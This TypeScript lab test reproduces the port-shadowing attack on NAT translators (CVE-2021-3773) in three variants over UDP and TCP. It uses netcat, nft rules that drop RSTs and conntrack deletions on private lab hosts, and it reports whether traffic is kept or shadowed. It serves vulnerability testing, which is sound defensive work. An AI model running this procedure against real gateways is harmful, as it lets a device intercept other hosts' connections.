/**
 * Port shadowing (CVE-2021-3773; T7), in its three shapes: a device behind a translator chooses its source port so that what the
 * translator's host has, or waits for, comes to the device.
 */
import { expect } from 'vitest';
import type { Service } from '../lab/command.ts';
import { eventually } from '../lab/eventually.ts';
import type { Host } from '../lab/host.ts';

export type Transport = 'udp' | 'tcp';
const TRANSPORTS = ['udp', 'tcp'] as const;
const TRANSLATOR = '192.168.0.10';
const TARGET = '192.168.0.20';
/** Of the translator's services: one that nobody has spoken to, and from here on those that somebody speaks to already. */
const FRESH = 5555;
const SPOKEN_TO = 5556;
/** Of the target's ports, those of the first round; each is used once. */
const FIRST_PORT = 6000;
const PORTS_A_ROUND = 6;

export interface Scene {
  /** Behind the translator. */
  device: Host;
  /** 192.168.0.10. */
  translator: Host;
  /** 192.168.0.20. */
  target: Host;
}

export class PortShadowing {
  readonly #scene: Scene;
  readonly #services = new Map<string, Service>();

  /** With services at the ports that the device goes for: netcat does not see that a shadowed connection is over. */
  constructor(scene: Scene, rounds: number) {
    this.#scene = scene;
    for (const transport of TRANSPORTS) {
      for (let port = FRESH; port < SPOKEN_TO + rounds; port++) {
        const argv = ['nc', ...flag(transport), '-l', '-k', `${port}`];
        const service = scene.translator.start(`${transport}-service`, argv);
        this.#services.set(`${transport} ${port}`, service);
      }
    }
  }

  /** Every shape over both transports; `round` counts from 0. */
  async tryAll(round: number): Promise<Record<string, 'kept' | 'shadowed'>> {
    const [port, spokenTo] = [FIRST_PORT + PORTS_A_ROUND * round, SPOKEN_TO + round];
    // A target that refuses what it did not ask for would spoil the claim.
    await this.#scene.target.run(['nft', '-f', '-'], {
      input: `table ip quiet${port} { chain out { type filter hook output priority 0; tcp flags & rst == rst drop; }; }\n`,
    });
    const tries = TRANSPORTS.flatMap((transport, nth) => [
      this.#adjacent(transport, port + 3 * nth),
      this.#evicted(transport, port + 3 * nth + 1, spokenTo),
      this.#own(transport, port + 3 * nth + 2),
    ]);
    const kept = await Promise.all(tries);
    await this.#scene.target.run(['nft', 'delete', 'table', 'ip', `quiet${port}`]);
    const names = TRANSPORTS.flatMap((transport) =>
      ['service', 'spoken-to service', 'own connection'].map((shape) => `${transport} ${shape}`),
    );
    return Object.fromEntries(
      names.map((name, nth) => [name, kept[nth] === true ? 'kept' : 'shadowed']),
    );
  }

  async stop(): Promise<void> {
    await Promise.all([...this.#services.values()].map((service) => service.stop()));
  }

  /** The device is first to speak of the two ports; then the target speaks to the service. */
  async #adjacent(transport: Transport, port: number): Promise<boolean> {
    await this.#claim(transport, FRESH, port);
    const word = `${transport}-first-${port}`;
    const say = `echo ${word} | nc ${flag(transport).join('')} -w 1 -p ${port} ${TRANSLATOR} ${FRESH} || true`;
    await this.#scene.target.sh(say);
    return await isSaid(this.#service(transport, FRESH), word);
  }

  /** They are speaking already, and the kernel forgets that: its table was full, or time was over. */
  async #evicted(transport: Transport, port: number, spokenTo: number): Promise<boolean> {
    const { target } = this.#scene;
    const argv = [...flag(transport), '-p', `${port}`, TRANSLATOR, `${spokenTo}`];
    const speaker = await Speaker.start(target, `${transport}-${port}`, argv);
    const service = this.#service(transport, spokenTo);
    await speaker.say(`${transport}-begins-${port}`);
    await service.waitFor(new RegExp(`${transport}-begins-${port}`));
    await this.#forget(transport, port, spokenTo);
    await this.#claim(transport, spokenTo, port);
    await speaker.say(`${transport}-goes-on-${port}`);
    const isKept = await isSaid(service, `${transport}-goes-on-${port}`);
    await speaker.stop();
    return isKept;
  }

  /** The translator's host has begun it, as a connector its tunnel. */
  async #own(transport: Transport, port: number): Promise<boolean> {
    const { target, translator } = this.#scene;
    const name = `${transport}-${port}`;
    const other = await Speaker.start(target, name, [...flag(transport), '-l', `${port}`]);
    const list = ['ss', `-Hl${transport.charAt(0)}n`, `sport = :${port}`];
    await eventually(async () => expect(await target.run(list)).not.toBe(''));
    const own = await Speaker.start(translator, name, [...flag(transport), TARGET, `${port}`]);
    await own.say(`hello-${name}`);
    await other.service.waitFor(new RegExp(`hello-${name}`));
    const sockets = ['ss', `-H${transport.charAt(0)}n`, 'dst', `${TARGET}:${port}`];
    const ownPort = Number(/192\.168\.0\.10:(\d+)/.exec(await translator.run(sockets))?.[1]);
    await this.#forget(transport, ownPort, port);
    await this.#claim(transport, ownPort, port);
    await other.say(`answer-${name}`);
    const isKept = await isSaid(own.service, `answer-${name}`);
    await Promise.all([own.stop(), other.stop()]);
    return isKept;
  }

  /** The device speaks to the target, from a port of its choice. */
  async #claim(transport: Transport, from: number, to: number): Promise<void> {
    const { device, translator } = this.#scene;
    const way = `-p ${from} ${TARGET} ${to}`;
    await device.sh(`echo claim | nc ${flag(transport).join('')} -w 1 ${way} || true`);
    const known = await translator.run(['conntrack', '-L', '-p', transport, '--dport', `${to}`]);
    expect(known).toMatch(new RegExp(`src=100\\.96\\.\\S+ dst=${TARGET} sport=${from} `));
  }

  async #forget(transport: Transport, from: number, to: number): Promise<void> {
    const ports = ['--sport', `${from}`, '--dport', `${to}`];
    await this.#scene.translator.run(['conntrack', '-D', '-p', transport, ...ports]);
  }

  #service(transport: Transport, port: number): Service {
    const service = this.#services.get(`${transport} ${port}`);
    if (service === undefined) throw new Error(`no ${transport} service at ${port}`);
    return service;
  }
}

/** netcat, that says what it is told. */
class Speaker {
  readonly service: Service;
  readonly #host: Host;
  readonly #words: string;

  private constructor(host: Host, name: string, argv: readonly string[], words: string) {
    this.#host = host;
    this.#words = words;
    const script = `tail -n +1 -f ${words} | nc ${argv.join(' ')}`;
    this.service = host.start(`speaker-${name}`, ['sh', '-c', script]);
  }

  static async start(host: Host, name: string, argv: readonly string[]): Promise<Speaker> {
    const words = (await host.run(['mktemp'])).trim();
    return new Speaker(host, name, argv, words);
  }

  async say(word: string): Promise<void> {
    await this.#host.sh(`echo ${word} >> ${this.#words}`);
  }

  async stop(): Promise<void> {
    await this.service.stop();
    await this.#host.run(['rm', this.#words]);
  }
}

function flag(transport: Transport): string[] {
  return transport === 'udp' ? ['-u'] : [];
}

/** Sooner or later; what has not come in three seconds went elsewhere. */
async function isSaid(service: Service, word: string): Promise<boolean> {
  return await service.waitFor(new RegExp(word), 3_000).then(
    () => true,
    () => false,
  );
}
